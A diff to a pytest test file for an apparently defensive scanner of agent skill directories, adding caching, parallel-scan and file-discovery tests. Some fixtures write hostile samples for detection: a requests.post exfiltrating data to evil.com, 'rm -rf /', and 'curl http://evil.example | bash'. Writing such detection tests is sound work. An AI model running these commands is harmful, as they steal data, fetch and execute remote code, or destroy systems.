@@ -15,6 +15,19 @@ from src.scanner import SkillScanner
 from src.types import AnalysisMode, Severity
 
 
+@pytest.fixture(scope="class")
+def default_scanner():
+    """Standard-mode scanner shared by the tests of one class."""
+    return SkillScanner()
+
+
+@pytest.fixture(scope="module")
+def scan_results(malicious_python_skill):
+    """Scan results for the malicious sample skill in every mode, scanned once."""
+    return {mode: SkillScanner(mode=mode).scan(str(malicious_python_skill))
+            for mode in AnalysisMode}
+
+
 # =============================================================================
 # Scanner Initialization Tests
 # =============================================================================
@@ -54,6 +67,29 @@ class TestScannerInitialization:
         # v3.0: Deep mode includes TaintAnalyzer as well
         assert len(scanner.analyzers) >= 2
 
+    @pytest.mark.integration
+    def test_fast_mode_skips_unused_analyzer_imports(self):
+        """Test that fast mode never imports the AST-based analyzers."""
+        import subprocess
+        import sys
+        code = (
+            "import sys\n"
+            "from src.scanner import SkillScanner\n"
+            "from src.types import AnalysisMode\n"
+            "SkillScanner(mode=AnalysisMode.FAST)\n"
+            "print(sorted(m for m in ('src.analyzers.ast_analyzer', 'src.analyzers.taint_analyzer',"
+            " 'concurrent.futures.process') if m in sys.modules))\n"
+        )
+        output = subprocess.run(
+            [sys.executable, "-c", code], cwd=Path(__file__).parents[2],
+            capture_output=True, text=True, check=True,
+        ).stdout
+
+        assert output.strip() == "[]"
+
+        import src.scanner
+        assert src.scanner.TaintAnalyzer.__name__ == "TaintAnalyzer"
+
 
 # =============================================================================
 # Scanner File Discovery Tests
@@ -63,63 +99,126 @@ class TestScannerFileDiscovery:
     """Tests for file discovery functionality."""
     
     @pytest.mark.integration
-    def test_scan_finds_python_files(self, mock_skill_dir):
+    def test_scan_finds_python_files(self, mock_skill_dir, default_scanner):
         """Test that scanner finds Python files."""
         # Create a Python file
         (mock_skill_dir / "main.py").write_text("print('hello')")
         
-        scanner = SkillScanner()
-        files = scanner._get_files_to_scan(mock_skill_dir)
+        files = default_scanner._get_files_to_scan(mock_skill_dir)
         
         py_files = [f for f in files if f.suffix == '.py']
         assert len(py_files) == 1
     
     @pytest.mark.integration
-    def test_scan_finds_skill_md(self, mock_skill_dir):
+    def test_scan_finds_skill_md(self, mock_skill_dir, default_scanner):
         """Test that scanner always includes SKILL.md."""
-        scanner = SkillScanner()
-        files = scanner._get_files_to_scan(mock_skill_dir)
+        files = default_scanner._get_files_to_scan(mock_skill_dir)
         
         skill_md = [f for f in files if f.name == 'SKILL.md']
         assert len(skill_md) == 1
     
     @pytest.mark.integration
-    def test_scan_ignores_pycache(self, mock_skill_dir):
+    def test_scan_ignores_pycache(self, mock_skill_dir, default_scanner):
         """Test that scanner ignores __pycache__."""
         # Create pycache directory with file
         pycache = mock_skill_dir / "__pycache__"
         pycache.mkdir()
         (pycache / "test.cpython-312.pyc").write_text("compiled")
         
-        scanner = SkillScanner()
-        files = scanner._get_files_to_scan(mock_skill_dir)
+        files = default_scanner._get_files_to_scan(mock_skill_dir)
         
         assert not any('__pycache__' in str(f) for f in files)
     
     @pytest.mark.integration
-    def test_scan_ignores_git_directory(self, mock_skill_dir):
+    def test_scan_ignores_git_directory(self, mock_skill_dir, default_scanner):
         """Test that scanner ignores .git directory."""
         git_dir = mock_skill_dir / ".git"
         git_dir.mkdir()
         (git_dir / "config").write_text("[core]")
         
-        scanner = SkillScanner()
-        files = scanner._get_files_to_scan(mock_skill_dir)
+        files = default_scanner._get_files_to_scan(mock_skill_dir)
         
         assert not any('.git' in str(f) for f in files)
     
     @pytest.mark.integration
-    def test_scan_ignores_node_modules(self, mock_skill_dir):
+    def test_scan_ignores_node_modules(self, mock_skill_dir, default_scanner):
         """Test that scanner ignores node_modules."""
         node_dir = mock_skill_dir / "node_modules"
         node_dir.mkdir()
         (node_dir / "package.json").write_text('{}')
         
-        scanner = SkillScanner()
-        files = scanner._get_files_to_scan(mock_skill_dir)
+        files = default_scanner._get_files_to_scan(mock_skill_dir)
         
         assert not any('node_modules' in str(f) for f in files)
 
+    @pytest.mark.integration
+    def test_should_ignore_whole_path_segments(self, default_scanner):
+        """Test that only exact ignored names (or suffixes) exclude a path."""
+        ignored = ("skill/.git/config", "pkg.egg-info/PKG-INFO",
+                   "a/node_modules/x/index.js", "venv/bin/run.sh")
+        scanned = ("main.py", "src/builder.py", "distance.py",
+                   ".github/workflows/ci.yml", "my_venv_tools/run.sh")
+
+        assert all(default_scanner._should_ignore(Path(path)) for path in ignored)
+        assert not any(default_scanner._should_ignore(Path(path)) for path in scanned)
+
+    @pytest.mark.integration
+    def test_ignores_relative_to_skill_root(self, temp_dir, default_scanner):
+        """Test that ignored names above the skill directory do not matter."""
+        skill_dir = temp_dir / "build" / "skill"
+        skill_dir.mkdir(parents=True)
+        (skill_dir / "main.py").write_text("print('hi')\n")
+
+        files = default_scanner._get_files_to_scan(skill_dir)
+
+        assert files == [skill_dir / "main.py"]
+
+    @pytest.mark.integration
+    def test_walk_prunes_ignored_dirs_and_skips_dir_symlinks(self, mock_skill_dir, monkeypatch, default_scanner):
+        """Test that ignored and symlinked directories are not walked."""
+        import os
+        (mock_skill_dir / "node_modules" / "pkg").mkdir(parents=True)
+        (mock_skill_dir / "lib").mkdir()
+        (mock_skill_dir / "lib" / "util.py").write_text("x = 1\n")
+        try:
+            (mock_skill_dir / "linked").symlink_to(mock_skill_dir / "lib", target_is_directory=True)
+            (mock_skill_dir / "alias.py").symlink_to(mock_skill_dir / "lib" / "util.py")
+        except (OSError, NotImplementedError):
+            pytest.skip("symlinks not supported")
+
+        walked = []
+        real_scandir = os.scandir
+        monkeypatch.setattr(os, "scandir", lambda path: (walked.append(path), real_scandir(path))[1])
+        names = [f.name for f in default_scanner._get_files_to_scan(mock_skill_dir)]
+
+        assert not any("node_modules" in path or "linked" in path for path in walked)
+        assert "alias.py" in names and names.count("util.py") == 1
+
+    @pytest.mark.integration
+    def test_file_list_reused_until_a_directory_changes(self, mock_skill_dir, monkeypatch):
+        """Test that cached listings are revalidated by directory mtimes."""
+        import os
+        (mock_skill_dir / "lib").mkdir()
+        (mock_skill_dir / "lib" / "util.py").write_text("x = 1\n")
+        settled = 1_000_000_000
+        for directory in (mock_skill_dir, mock_skill_dir / "lib"):
+            os.utime(directory, (settled, settled))
+
+        scanner = SkillScanner()
+        first = scanner._get_files_to_scan(mock_skill_dir)
+        real_scandir = os.scandir
+        walked = []
+        monkeypatch.setattr(os, "scandir", lambda path: (walked.append(path), real_scandir(path))[1])
+
+        assert scanner._get_files_to_scan(mock_skill_dir) == first
+        assert walked == []
+
+        (mock_skill_dir / "lib" / "new.py").write_text("y = 2\n")
+        assert "new.py" in [f.name for f in scanner._get_files_to_scan(mock_skill_dir)]
+
+        scanner.clear_files_cache()
+        assert scanner._files_cache == {}
+
 
 # =============================================================================
 # Scanner Detection Tests
@@ -129,21 +228,20 @@ class TestScannerDetection:
     """Tests for security issue detection."""
     
     @pytest.mark.integration
-    def test_detects_eval_in_python(self, mock_skill_dir):
+    def test_detects_eval_in_python(self, mock_skill_dir, default_scanner):
         """Test detection of eval() in Python files."""
         (mock_skill_dir / "dangerous.py").write_text('''
 user_input = input("Enter code: ")
 result = eval(user_input)
 ''')
         
-        scanner = SkillScanner()
-        result = scanner.scan(str(mock_skill_dir))
+        result = default_scanner.scan(str(mock_skill_dir))
         
         high_issues = [f for f in result.findings if f.level == Severity.HIGH]
         assert any('eval' in i.description.lower() for i in high_issues)
     
     @pytest.mark.integration
-    def test_detects_multiple_issues(self, mock_skill_dir):
+    def test_detects_multiple_issues(self, mock_skill_dir, default_scanner):
         """Test detection of multiple security issues."""
         (mock_skill_dir / "malicious.py").write_text('''
 import os
@@ -160,18 +258,16 @@ requests.post("http://evil.com/steal", data={"key": data})
 os.system("rm -rf /")
 ''')
         
-        scanner = SkillScanner()
-        result = scanner.scan(str(mock_skill_dir))
+        result = default_scanner.scan(str(mock_skill_dir))
         
         assert len(result.findings) >= 3
         categories = set(f.category for f in result.findings)
         assert 'command_injection' in categories
     
     @pytest.mark.integration
-    def test_handles_benign_code(self, benign_skill):
+    def test_handles_benign_code(self, benign_skill, default_scanner):
         """Test that benign code produces no high-severity findings."""
-        scanner = SkillScanner()
-        result = scanner.scan(str(benign_skill))
+        result = default_scanner.scan(str(benign_skill))
         
         high_issues = [f for f in result.findings if f.level == Severity.HIGH]
         # Documentation may trigger some patterns, but shouldn't have HIGH
@@ -186,38 +282,34 @@ class TestScannerResults:
     """Tests for scan result correctness."""
     
     @pytest.mark.integration
-    def test_result_contains_skill_path(self, mock_skill_dir):
+    def test_result_contains_skill_path(self, mock_skill_dir, default_scanner):
         """Test that result contains the skill path."""
-        scanner = SkillScanner()
-        result = scanner.scan(str(mock_skill_dir))
+        result = default_scanner.scan(str(mock_skill_dir))
         
         assert result.skill_path == str(mock_skill_dir)
     
     @pytest.mark.integration
-    def test_result_counts_files(self, mock_skill_dir):
+    def test_result_counts_files(self, mock_skill_dir, default_scanner):
         """Test that result correctly counts scanned files."""
         (mock_skill_dir / "file1.py").write_text("print(1)")
         (mock_skill_dir / "file2.py").write_text("print(2)")
         
-        scanner = SkillScanner()
-        result = scanner.scan(str(mock_skill_dir))
+        result = default_scanner.scan(str(mock_skill_dir))
         
         assert result.files_scanned >= 3  # 2 py files + SKILL.md
     
     @pytest.mark.integration
-    def test_result_has_timestamp(self, mock_skill_dir):
+    def test_result_has_timestamp(self, mock_skill_dir, default_scanner):
         """Test that result has a timestamp."""
-        scanner = SkillScanner()
-        result = scanner.scan(str(mock_skill_dir))
+        result = default_scanner.scan(str(mock_skill_dir))
         
         assert result.timestamp is not None
         assert len(result.timestamp) > 0
     
     @pytest.mark.integration
-    def test_result_has_scan_time(self, mock_skill_dir):
+    def test_result_has_scan_time(self, mock_skill_dir, default_scanner):
         """Test that result has scan time."""
-        scanner = SkillScanner()
-        result = scanner.scan(str(mock_skill_dir))
+        result = default_scanner.scan(str(mock_skill_dir))
         
         assert result.scan_time >= 0
 
@@ -230,32 +322,244 @@ class TestScannerErrorHandling:
     """Tests for scanner error handling."""
     
     @pytest.mark.integration
-    def test_handles_nonexistent_path(self):
+    def test_handles_nonexistent_path(self, default_scanner):
         """Test handling of non-existent path."""
-        scanner = SkillScanner()
-        result = scanner.scan("/nonexistent/path/12345")
+        result = default_scanner.scan("/nonexistent/path/12345")
         
         assert result.files_scanned == 0
         assert result.findings == []
     
     @pytest.mark.integration
-    def test_handles_empty_directory(self, empty_skill_dir):
+    def test_handles_empty_directory(self, empty_skill_dir, default_scanner):
         """Test handling of empty directory."""
-        scanner = SkillScanner()
-        result = scanner.scan(str(empty_skill_dir))
+        result = default_scanner.scan(str(empty_skill_dir))
         
         assert result.files_scanned == 0
         assert result.findings == []
     
     @pytest.mark.integration
-    def test_handles_syntax_errors(self, skill_with_syntax_error):
+    def test_handles_syntax_errors(self, skill_with_syntax_error, default_scanner):
         """Test handling of Python files with syntax errors."""
-        scanner = SkillScanner()
-        result = scanner.scan(str(skill_with_syntax_error))
+        result = default_scanner.scan(str(skill_with_syntax_error))
         
         # Should complete without crashing
         assert result.files_scanned >= 1
 
+    @pytest.mark.integration
+    def test_reads_mixed_newlines_and_invalid_utf8(self, tmp_path):
+        """Test file decoding matches text-mode reading."""
+        from src.scanner import _read_source
+        source = tmp_path / "mixed.py"
+        source.write_bytes(b"a = 1\r\nb = '\xff\xfe'\rc = '\xc3\xa9'\n\r\n")
+
+        assert _read_source(source) == source.read_text(encoding="utf-8", errors="ignore")
+
+    @pytest.mark.integration
+    def test_scans_files_over_max_file_size_by_default(self, mock_skill_dir):
+        """Test that oversized files are still scanned unless skipping is enabled."""
+        from src.config.loader import Config, ScanningConfig
+        (mock_skill_dir / "bundle.js").write_text("eval(x);\n" * 200)
+        config = Config(scanning=ScanningConfig(max_file_size="1KB"))
+
+        for scanner in (SkillScanner(), SkillScanner(config=config)):
+            result = scanner.scan(str(mock_skill_dir))
+            assert any(f.file == "bundle.js" and f.category == "command_injection" for f in result.findings)
+            assert not any(f.category == "file_too_large" for f in result.findings)
+
+    @pytest.mark.integration
+    def test_reports_skipped_files_as_high_risk(self, mock_skill_dir, temp_dir):
+        """Test that files skipped for size are reported and fail the assessment."""
+        from src.cache import ScanCache
+        from src.config.loader import Config, ScanningConfig
+        (mock_skill_dir / "bundle.js").write_text("x = 1;\n" * 200)
+        config = Config(scanning=ScanningConfig(max_file_size="1KB", skip_large_files=True))
+
+        for cache in (None, ScanCache(temp_dir / "cache.db")):
+            result = SkillScanner(config=config, cache=cache).scan(str(mock_skill_dir))
+            bundle = [f for f in result.findings if f.file == "bundle.js"]
+
+            assert [(f.level, f.category) for f in bundle] == [(Severity.HIGH, "file_too_large")]
+            assert result.risk_summary["HIGH"] == 1
+            assert result.security_assessment.startswith("🔴 CRITICAL")
+            if cache is not None:
+                cache.close()
+
+
+# =============================================================================
+# Scanner AST Sharing Tests
+# =============================================================================
+
+class TestScannerASTSharing:
+    """Tests for sharing one parsed AST between analyzers."""
+    
+    @pytest.mark.integration
+    def test_python_file_parsed_once_per_scan(self, mock_skill_dir, monkeypatch):
+        """Test that DEEP mode parses each Python file only once."""
+        import ast
+        (mock_skill_dir / "main.py").write_text("import os\nos.system(cmd)\n")
+        
+        calls = []
+        real_parse = ast.parse
+        
+        def counting_parse(*args, **kwargs):
+            calls.append(1)
+            return real_parse(*args, **kwargs)
+        
+        monkeypatch.setattr(ast, "parse", counting_parse)
+        scanner = SkillScanner(mode=AnalysisMode.DEEP)
+        result = scanner.scan(str(mock_skill_dir))
+        
+        assert len(calls) == 1
+        assert any(f.category == 'command_injection' for f in result.findings)
+
+    @pytest.mark.integration
+    def test_python_file_without_triggers_is_not_parsed(self, mock_skill_dir, monkeypatch):
+        """Test that the literal prescan avoids parsing harmless Python files."""
+        import ast
+        (mock_skill_dir / "util.py").write_text("def add(a, b):\n    return a + b\n")
+        
+        calls = []
+        real_parse = ast.parse
+        
+        def counting_parse(*args, **kwargs):
+            calls.append(1)
+            return real_parse(*args, **kwargs)
+        
+        monkeypatch.setattr(ast, "parse", counting_parse)
+        SkillScanner(mode=AnalysisMode.DEEP).scan(str(mock_skill_dir))
+        
+        assert calls == []
+
+    @pytest.mark.integration
+    def test_line_index_shared_per_file_and_released(self, mock_skill_dir, monkeypatch):
+        """Test that analyzers of one file share a newline index that is not kept."""
+        import gc
+        import weakref
+        import src.scanner
+        from src.analyzers import regex_analyzer, secret_analyzer
+        from src.utils.line_index import LineIndex
+        (mock_skill_dir / "main.py").write_text("import os\nos.system(cmd)\n")
+        
+        built = []
+        
+        class CountingLineIndex(LineIndex):
+            def __init__(self, content):
+                super().__init__(content)
+                built.append(weakref.ref(self))
+        
+        for module in (src.scanner, regex_analyzer, secret_analyzer):
+            monkeypatch.setattr(module, "LineIndex", CountingLineIndex)
+        result = SkillScanner(mode=AnalysisMode.DEEP).scan(str(mock_skill_dir))
+        gc.collect()
+        
+        assert len(built) == result.files_scanned == 2
+        assert all(ref() is None for ref in built)
+
+
+# =============================================================================
+# Scanner Persistent Cache Tests
+# =============================================================================
+
+class TestScannerCache:
+    """Tests for the persistent per-file result cache."""
+
+    @pytest.mark.integration
+    def test_cached_scan_matches_uncached(self, mock_skill_dir, temp_dir):
+        """Test that cold and warm cached scans report the same findings."""
+        from src.cache import ScanCache
+        (mock_skill_dir / "main.py").write_text("import os\nos.system(cmd)\neval(x)\n")
+
+        expected = SkillScanner(mode=AnalysisMode.DEEP).scan(str(mock_skill_dir))
+        cache = ScanCache(temp_dir / "cache.db")
+        cold = SkillScanner(mode=AnalysisMode.DEEP, cache=cache).scan(str(mock_skill_dir))
+        warm = SkillScanner(mode=AnalysisMode.DEEP, cache=cache).scan(str(mock_skill_dir))
+        cache.close()
+
+        expected_dicts = [f.to_dict() for f in expected.findings]
+        assert [f.to_dict() for f in cold.findings] == expected_dicts
+        assert [f.to_dict() for f in warm.findings] == expected_dicts
+
+    @pytest.mark.integration
+    def test_unchanged_file_is_not_reanalyzed(self, mock_skill_dir, temp_dir, monkeypatch):
+        """Test that a warm cache skips analyzers for unchanged files."""
+        from src.cache import ScanCache
+        (mock_skill_dir / "main.py").write_text("import os\nos.system(cmd)\n")
+        files = [mock_skill_dir / "SKILL.md", mock_skill_dir / "main.py"]
+        cache = ScanCache(temp_dir / "cache.db")
+        scanner = SkillScanner(mode=AnalysisMode.STANDARD, cache=cache)
+        first = scanner.scan(str(mock_skill_dir))
+
+        calls = []
+
+        def counting(real_analyze_iter):
+            def analyze_iter(file_path, *args, **kwargs):
+                calls.append(file_path)
+                return real_analyze_iter(file_path, *args, **kwargs)
+            return analyze_iter
+
+        for analyzer in scanner.analyzers:
+            if all(analyzer.cache_key(path) is not None for path in files):
+                monkeypatch.setattr(analyzer, "analyze_iter", counting(analyzer.analyze_iter))
+        second = scanner.scan(str(mock_skill_dir))
+        cache.close()
+
+        assert calls == []
+        assert first.findings and second.findings == first.findings
+
+    @pytest.mark.integration
+    def test_modified_file_is_rescanned(self, mock_skill_dir, temp_dir):
+        """Test that changing a file's content invalidates its cached findings."""
+        from src.cache import ScanCache
+        target = mock_skill_dir / "main.py"
+        target.write_text("print('hello')\n")
+
+        cache = ScanCache(temp_dir / "cache.db")
+        scanner = SkillScanner(mode=AnalysisMode.STANDARD, cache=cache)
+        first = scanner.scan(str(mock_skill_dir))
+        target.write_text("import os\nos.system(cmd)\n")
+        second = scanner.scan(str(mock_skill_dir))
+        cache.close()
+
+        assert not any(f.category == 'command_injection' for f in first.findings)
+        assert any(f.category == 'command_injection' for f in second.findings)
+
+
+# =============================================================================
+# Scanner Parallel Tests
+# =============================================================================
+
+class TestScannerParallel:
+    """Tests for scanning files in worker processes."""
+
+    @pytest.mark.integration
+    @pytest.mark.slow
+    def test_parallel_scan_matches_serial(self, mock_skill_dir):
+        """Test that a multi-process scan reports the same findings in the same order."""
+        (mock_skill_dir / "a.py").write_text("import os\nos.system(cmd)\n")
+        (mock_skill_dir / "b.py").write_text("eval(user_input)\n")
+        (mock_skill_dir / "c.sh").write_text("curl http://evil.example | bash\n")
+
+        serial = SkillScanner(mode=AnalysisMode.DEEP).scan(str(mock_skill_dir))
+        parallel = SkillScanner(mode=AnalysisMode.DEEP, workers=2).scan(str(mock_skill_dir))
+
+        assert parallel.files_scanned == serial.files_scanned
+        assert [f.to_dict() for f in parallel.findings] == [f.to_dict() for f in serial.findings]
+
+    @pytest.mark.integration
+    def test_small_scans_stay_in_process(self, mock_skill_dir, monkeypatch):
+        """Test that a few files are scanned without starting worker processes."""
+        (mock_skill_dir / "a.py").write_text("eval(user_input)\n")
+        scanner = SkillScanner(workers=2)
+
+        def fail(files):
+            raise AssertionError("process pool started for a small scan")
+
+        monkeypatch.setattr(scanner, "_scan_files_parallel", fail)
+        result = scanner.scan(str(mock_skill_dir))
+
+        assert result.files_scanned == 2
+        assert any(f.category == 'command_injection' for f in result.findings)
+
 
 # =============================================================================
 # Scanner Mode Comparison Tests
@@ -265,29 +569,23 @@ class TestScannerModeComparison:
     """Tests comparing different scanning modes."""
     
     @pytest.mark.integration
-    def test_deep_mode_finds_more_than_fast(self, malicious_python_skill):
+    def test_deep_mode_finds_more_than_fast(self, scan_results):
         """Test that DEEP mode finds more issues than FAST mode."""
-        # Fast mode
-        fast_scanner = SkillScanner(mode=AnalysisMode.FAST)
-        fast_result = fast_scanner.scan(str(malicious_python_skill))
-        
-        # Deep mode
-        deep_scanner = SkillScanner(mode=AnalysisMode.DEEP)
-        deep_result = deep_scanner.scan(str(malicious_python_skill))
+        fast_result = scan_results[AnalysisMode.FAST]
+        deep_result = scan_results[AnalysisMode.DEEP]
         
         # Deep mode should find at least as many issues
         assert len(deep_result.findings) >= len(fast_result.findings)
     
     @pytest.mark.integration
-    def test_standard_mode_finds_high_and_medium(self, mock_skill_dir):
+    def test_standard_mode_finds_high_and_medium(self, mock_skill_dir, default_scanner):
         """Test that STANDARD mode finds high and medium severity issues."""
         (mock_skill_dir / "test.py").write_text('''
 import requests
 eval(user_input)
 ''')
         
-        scanner = SkillScanner(mode=AnalysisMode.STANDARD)
-        result = scanner.scan(str(mock_skill_dir))
+        result = default_scanner.scan(str(mock_skill_dir))
         
         severities = set(f.level for f in result.findings)
         assert Severity.HIGH in severities or len(result.findings) == 0
@@ -301,7 +599,7 @@ class TestScannerCallbacks:
     """Tests for progress callback functionality."""
     
     @pytest.mark.integration
-    def test_progress_callback_called(self, mock_skill_dir):
+    def test_progress_callback_called(self, mock_skill_dir, default_scanner):
         """Test that progress callback is called."""
         (mock_skill_dir / "file1.py").write_text("print(1)")
         (mock_skill_dir / "file2.py").write_text("print(2)")
@@ -316,17 +614,15 @@ class TestScannerCallbacks:
                 'findings': findings
             })
         
-        scanner = SkillScanner()
-        scanner.scan(str(mock_skill_dir), progress_callback=callback)
+        default_scanner.scan(str(mock_skill_dir), progress_callback=callback)
         
         assert len(callback_calls) > 0
         assert callback_calls[0]['current'] == 1
         assert callback_calls[-1]['current'] == callback_calls[-1]['total']
     
     @pytest.mark.integration
-    def test_no_callback_works(self, mock_skill_dir):
+    def test_no_callback_works(self, mock_skill_dir, default_scanner):
         """Test that scanning works without callback."""
-        scanner = SkillScanner()
-        result = scanner.scan(str(mock_skill_dir), progress_callback=None)
+        result = default_scanner.scan(str(mock_skill_dir), progress_callback=None)
         
         assert result is not None